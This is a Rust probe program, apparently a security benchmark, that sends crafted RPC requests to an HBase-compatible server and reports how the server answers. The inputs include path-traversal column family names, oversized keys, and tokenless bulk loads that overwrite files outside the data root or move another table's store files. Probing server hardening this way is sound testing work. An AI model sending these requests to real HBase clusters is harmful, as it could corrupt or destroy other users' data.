//! Sends the requests of issue 33's holes, raw, to any server speaking HBase's native RPC
//! (`cairn serve`, or HBase 2.6.1 itself) and prints how each was answered, so
//! `bench/hostile-vs-hbase.sh` can set the two side by side. HBase's Java client refuses most
//! of these before sending; a hostile client does not.
//!
//! ```text
//! cargo run --example hostile_probe -- MASTER_HOST:PORT RS_HOST:PORT ROOT WORKDIR
//! ```
//!
//! The master's and the region server's RPC addresses (one and the same for `cairn serve`;
//! HBase standalone runs them on two ports). ROOT is the server's `hbase.rootdir` (a local path), used to find a store file of the
//! victim table; WORKDIR a scratch directory outside ROOT (the files the loads aim at). Each
//! line: `case<TAB>answer<TAB>what changed on disk`.

use std::path::{Path, PathBuf};

use cairn_cell::KeyValue;
use cairn_hfile::{HFileWriter, WriterOptions};
use cairn_rpc::client::{meta_region_infos, ClientError, RpcClient};
use cairn_rpc::pb;
use prost::Message;

fn answer<R>(r: Result<R, ClientError>) -> String {
    match r {
        Ok(_) => "accepted".into(),
        Err(ClientError::Remote { class, message, .. }) => {
            let first = message.lines().next().unwrap_or_default();
            let short: String = first.chars().take(160).collect();
            format!("{class}: {short}")
        }
        Err(e) => format!("error: {e}"),
    }
}

/// `call` again while the region is still opening (HBase assigns a new table's regions after
/// `CreateTable` answers), for up to a minute.
fn settled<R>(mut call: impl FnMut() -> Result<R, ClientError>) -> Result<R, ClientError> {
    for _ in 0..120 {
        match call() {
            Err(ClientError::Remote { class, message, .. })
                if class.contains("RegionOpening")
                    || class.contains("NotServingRegion")
                    || message.contains("is not OPEN") =>
            {
                std::thread::sleep(std::time::Duration::from_millis(500))
            }
            r => return r,
        }
    }
    call()
}

fn table(q: &str) -> pb::TableName {
    pb::TableName {
        namespace: b"default".to_vec(),
        qualifier: q.as_bytes().to_vec(),
    }
}

fn create(m: &mut RpcClient, q: &str, family: &[u8], split: Option<Vec<u8>>) -> String {
    let req = pb::CreateTableRequest {
        table_schema: pb::TableSchema {
            table_name: Some(table(q)),
            column_families: vec![pb::ColumnFamilySchema {
                name: family.to_vec(),
                ..Default::default()
            }],
            ..Default::default()
        },
        split_keys: split.into_iter().collect(),
        nonce_group: None,
        nonce: None,
    };
    answer(m.call::<pb::CreateTableResponse>("CreateTable", &req))
}

/// The table's first region, waiting up to 60 s for it to appear (HBase creates tables in a
/// master procedure that finishes after `CreateTable` answers).
fn region(addr: &str, q: &str) -> Option<pb::RegionInfo> {
    let found = || {
        let infos = meta_region_infos(addr, &table(q)).ok()?;
        pb::RegionInfo::decode(infos.first()?.get(4..)?).ok()
    };
    for _ in 0..120 {
        if let Some(r) = found() {
            return Some(r);
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    None
}

fn region_name(info: &pb::RegionInfo) -> Vec<u8> {
    let q = String::from_utf8_lossy(&info.table_name.qualifier).into_owned();
    cairn_region::RegionInfo::new(
        cairn_region::TableName::parse(&q).expect("a probe table name"),
        info.start_key.as_deref().unwrap_or_default(),
        info.end_key.as_deref().unwrap_or_default(),
        info.region_id,
    )
    .region_name_bytes()
}

fn spec(name: Vec<u8>) -> pb::RegionSpecifier {
    pb::RegionSpecifier {
        r#type: pb::region_specifier::RegionSpecifierType::RegionName as i32,
        value: name,
    }
}

fn hfile(path: &Path) {
    std::fs::create_dir_all(path.parent().expect("a parent")).expect("mkdir");
    let out = std::fs::File::create(path).expect("create");
    let mut w = HFileWriter::new(out, path.display().to_string(), WriterOptions::default())
        .expect("writer");
    let kv = KeyValue::put(b"a", b"f", b"q", 1, b"v").expect("cell");
    w.append(&kv.as_cell()).expect("append");
    w.finish().expect("finish");
}

/// Every regular file under `dir`.
fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [master, addr, root, work] = args.as_slice() else {
        eprintln!("usage: hostile_probe MASTER_HOST:PORT RS_HOST:PORT ROOT WORKDIR");
        std::process::exit(2);
    };
    let (root, work) = (Path::new(root), Path::new(work));
    let mut m = RpcClient::connect(master, "MasterService").expect("connect");
    let mut c = RpcClient::connect(addr, "ClientService").expect("connect");
    let abs = work.join("absfam");
    let abs_name = abs.display().to_string();
    let line = |case: &str, answer: String, changed: String| {
        println!("{case}\t{answer}\t{changed}");
    };
    for (case, family) in [
        ("CreateTable, family = absolute path", abs_name.as_bytes()),
        ("CreateTable, family a/b", b"a/b".as_slice()),
        ("CreateTable, family ../x", b"../x".as_slice()),
    ] {
        let a = create(&mut m, "probe_names", family, None);
        line(
            case,
            a,
            format!("{} exists: {}", abs.display(), abs.exists()),
        );
    }
    for (case, name, key) in [
        (
            "CreateTable, split key of 33,000 bytes",
            "probe_split1",
            vec![b'k'; 33_000],
        ),
        (
            "CreateTable, split key of 32,757 bytes",
            "probe_split2",
            vec![b'k'; 32_757],
        ),
    ] {
        let a = create(&mut m, name, b"f", Some(key));
        // HBase answers before its procedure runs: whether the table came to be is the
        // outcome.
        std::thread::sleep(std::time::Duration::from_secs(3));
        let made = meta_region_infos(addr, &table(name)).is_ok_and(|r| !r.is_empty());
        line(case, a, format!("table in meta afterwards: {made}"));
    }
    line(
        "region lookup of another table afterwards",
        match (
            create(&mut m, "probe_ok", b"f", None),
            region(addr, "probe_ok"),
        ) {
            (_, Some(_)) => "found".into(),
            (a, None) => format!("not found ({a})"),
        },
        String::new(),
    );
    // Rows past the limit.
    let Some(ok) = region(addr, "probe_ok") else {
        return;
    };
    let put = pb::MutateRequest {
        region: spec(region_name(&ok)),
        mutation: pb::MutationProto {
            row: Some(vec![b'r'; 33_000]),
            mutate_type: Some(pb::mutation_proto::MutationType::Put as i32),
            column_value: vec![pb::mutation_proto::ColumnValue {
                family: b"f".to_vec(),
                qualifier_value: vec![pb::mutation_proto::column_value::QualifierValue {
                    qualifier: Some(b"q".to_vec()),
                    value: Some(b"v".to_vec()),
                    ..Default::default()
                }],
            }],
            ..Default::default()
        },
        condition: None,
        nonce_group: None,
    };
    line(
        "Mutate, Put with a row of 33,000 bytes",
        answer(settled(|| c.call::<pb::MutateResponse>("Mutate", &put))),
        String::new(),
    );
    let split = pb::SplitTableRegionRequest {
        region_info: ok.clone(),
        split_row: Some(vec![b'a'; 33_000]),
        nonce_group: None,
        nonce: None,
    };
    line(
        "SplitRegion at a row of 33,000 bytes",
        answer(settled(|| {
            m.call::<pb::SplitTableRegionResponse>("SplitRegion", &split)
        })),
        String::new(),
    );
    // Bulk loads aimed outside. The victim table gets a flushed store file first.
    create(&mut m, "probe_victim", b"f", None);
    let Some(victim) = region(addr, "probe_victim") else {
        return;
    };
    let mut put = put;
    put.region = spec(region_name(&victim));
    put.mutation.row = Some(b"r".to_vec());
    let _ = settled(|| c.call::<pb::MutateResponse>("Mutate", &put));
    let mut admin = RpcClient::connect(addr, "AdminService").expect("connect");
    let flush = pb::FlushRegionRequest {
        region: spec(region_name(&victim)),
        if_older_than_ts: None,
        write_flush_wal_marker: None,
        family: None,
    };
    let _ = settled(|| admin.call::<pb::FlushRegionResponse>("FlushRegion", &flush));
    let store_file = files(&root.join("data/default/probe_victim"))
        .into_iter()
        .find(|p| {
            p.parent().is_some_and(|d| d.ends_with("f")) && !p.to_string_lossy().contains("/.")
        });
    let token = c
        .call::<pb::PrepareBulkLoadResponse>(
            "PrepareBulkLoad",
            &pb::PrepareBulkLoadRequest {
                table_name: table("probe_ok"),
                region: None,
            },
        )
        .map(|a| a.message.bulk_token)
        .unwrap_or_default();
    std::fs::create_dir_all(&abs).expect("mkdir");
    let target = abs.join("victim");
    std::fs::write(&target, vec![7u8; 15_892]).expect("write");
    let src = work.join("in").join("victim");
    hfile(&src);
    let load = |c: &mut RpcClient, family: &[u8], path: &Path, token: Option<&str>, copy: bool| {
        let req = pb::BulkLoadHFileRequest {
            region: spec(region_name(&ok)),
            family_path: vec![pb::bulk_load_h_file_request::FamilyPath {
                family: family.to_vec(),
                path: format!("file://{}", path.display()),
            }],
            assign_seq_num: Some(true),
            fs_token: None,
            bulk_token: token.map(str::to_string),
            copy_file: Some(copy),
            cluster_ids: vec![],
            replicate: None,
        };
        match settled(|| c.call::<pb::BulkLoadHFileResponse>("BulkLoadHFile", &req)) {
            Ok(a) => format!("answered loaded={}", a.message.loaded),
            e => answer(e),
        }
    };
    let a = load(&mut c, abs_name.as_bytes(), &src, Some(&token), true);
    line(
        "BulkLoadHFile, token, copy, family = absolute path",
        a,
        format!(
            "{} now {} bytes (was 15892)",
            target.display(),
            std::fs::metadata(&target).map_or(0, |m| m.len())
        ),
    );
    if let Some(sf) = store_file {
        let before = std::fs::metadata(&sf).map_or(0, |m| m.len());
        let a = load(&mut c, b"f", &sf, None, false);
        line(
            "BulkLoadHFile, no token, move another table's store file",
            a,
            format!(
                "victim store file {}: {}",
                sf.display(),
                if sf.exists() {
                    format!("still there, {before} bytes")
                } else {
                    "GONE".to_string()
                }
            ),
        );
    } else {
        line(
            "BulkLoadHFile, no token, move another table's store file",
            "not tried: no store file found".into(),
            String::new(),
        );
    }
}
